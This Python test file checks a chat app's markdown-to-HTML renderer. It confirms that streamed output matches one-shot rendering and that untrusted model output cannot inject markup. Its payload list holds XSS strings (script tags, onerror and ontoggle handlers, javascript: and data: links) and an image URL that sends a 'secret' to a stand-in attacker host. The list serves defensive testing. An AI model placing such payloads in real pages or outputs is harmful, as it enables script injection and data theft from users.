"""render_html and HtmlStream: the streamed blocks equal the one-shot render at any chunking, and model
output is untrusted: raw HTML is text, only http/https/mailto links, images never fetched."""

from __future__ import annotations

import random
from html.parser import HTMLParser
from pathlib import Path

import pytest

from streamchat.render import HtmlStream, render_html
from streamchat.render.html import LINK_REL, code_style_css

RICH = (Path(__file__).resolve().parents[1] / "e2e" / "scripts" / "rich.md").read_text()
TRICKY = (
    "Para\r\nline two\r\n\r\n```js\r\nlet a = 1;\r\n```\r\nSetext\r\n===\r\n\r\n[ref]: https://x.example\r\n"
)


def streamed(text: str, sizes: random.Random | int, frame_every: int = 1) -> str:
    stream = HtmlStream()
    out: list[str] = []
    i = 0
    count = 0
    while i < len(text):
        size = sizes if isinstance(sizes, int) else sizes.randint(1, 16)
        stream.feed(text[i : i + size])
        i += size
        count += 1
        if count % frame_every == 0:
            out.extend(stream.frame().blocks)
    final = stream.finish()
    assert final.tail == ""
    return "".join(out) + "".join(final.blocks)


@pytest.mark.parametrize("text", [RICH, TRICKY, "", "no newline at the end", "```\nopen fence"])
@pytest.mark.parametrize("size", [1, 4, 7])
def test_streamed_blocks_equal_the_one_shot_render(text: str, size: int) -> None:
    assert streamed(text, size) == render_html(text)
    assert streamed(text, size, frame_every=5) == render_html(text)


def test_random_chunks() -> None:
    for seed in range(6):
        assert streamed(RICH, random.Random(seed), frame_every=3) == render_html(RICH)


def test_the_tail_changes_only_when_text_arrives() -> None:
    stream = HtmlStream()
    stream.feed("Hello")
    assert stream.frame().tail == "<p>Hello</p>\n"  # one partial line: the tail, nothing finished
    frame = stream.frame()
    assert frame.empty
    stream.feed(" world\n\nNext")  # the next block has not begun on a complete line yet
    assert stream.frame().blocks == ()
    stream.feed(" one\n")
    frame = stream.frame()
    assert frame.blocks == ("<p>Hello world</p>\n",) and frame.tail == "<p>Next one</p>\n"


PAYLOADS = [
    "<script>window.__xss = 1</script>",
    '<img src="https://attacker.example/x.png" onerror="window.__xss=1">',
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[vb](vbscript:msgbox)",
    "[rel](/api/conversations)",
    "![leak](https://attacker.example/?q=secret)",
    "![local](/static/icon.svg)",
    "<!-- a comment --> &lt;b&gt; &amp;",
    "<iframe src=https://attacker.example></iframe>",
    "<style>body{display:none}</style>",
    '[x](https://ok.example "title" onmouseover="alert(1)")',
    "<details open ontoggle=alert(1)>",
    "```html\n<script>alert(1)</script>\n```",
    "| a |\n|---|\n| <b onclick=alert(1)>x</b> |",
]


class _Markup(HTMLParser):
    """The elements, attributes and comments of an HTML fragment."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)


ALLOWED_TAGS = {"p", "a", "code", "pre", "span", "div", "button", "table", "thead", "tbody", "tr", "th", "td",
                "strong", "em", "ul", "ol", "li", "h1", "h2", "h3"}  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
def test_model_output_cannot_inject_markup(payload: str) -> None:
    markup = _Markup()
    markup.feed(render_html(payload))
    assert markup.comments == []
    for tag, attrs in markup.tags:
        assert tag in ALLOWED_TAGS, (payload, tag)
        assert not any(name.startswith("on") or name in ("style", "src") for name in attrs), (payload, attrs)
        if tag == "a":
            assert str(attrs.get("href", "")).startswith(("https://", "http://", "mailto:")), (payload, attrs)
            assert attrs.get("rel") == LINK_REL


def test_links_and_images() -> None:
    html = render_html("[site](https://example.com) <https://auto.example> [mail](mailto:a@b.example)")
    assert html.count(f'rel="{LINK_REL}"') == 3 and html.count('target="_blank"') == 3
    image = render_html("![a chart](https://example.com/c.png)")
    link = f'<a class="image-link" href="https://example.com/c.png" target="_blank" rel="{LINK_REL}">'
    assert image == f"<p>{link}image: a chart</a></p>\n"
    assert "<a" not in render_html("![x](/local.png)")


def test_code_is_highlighted_with_classes_and_has_a_copy_button() -> None:
    html = render_html("```python\ndef f():\n    return 1\n```\n")
    assert '<code class="language-python">' in html and '<span class="k">def</span>' in html
    assert 'aria-label="Copy code"' in html and "style=" not in html
    table = render_html("| a | b |\n|--:|:-:|\n| 1 | 2 |\n")
    assert 'class="align-right"' in table and "style=" not in table
    css = code_style_css()
    assert ".code-block pre .k" in css and "prefers-color-scheme: dark" in css
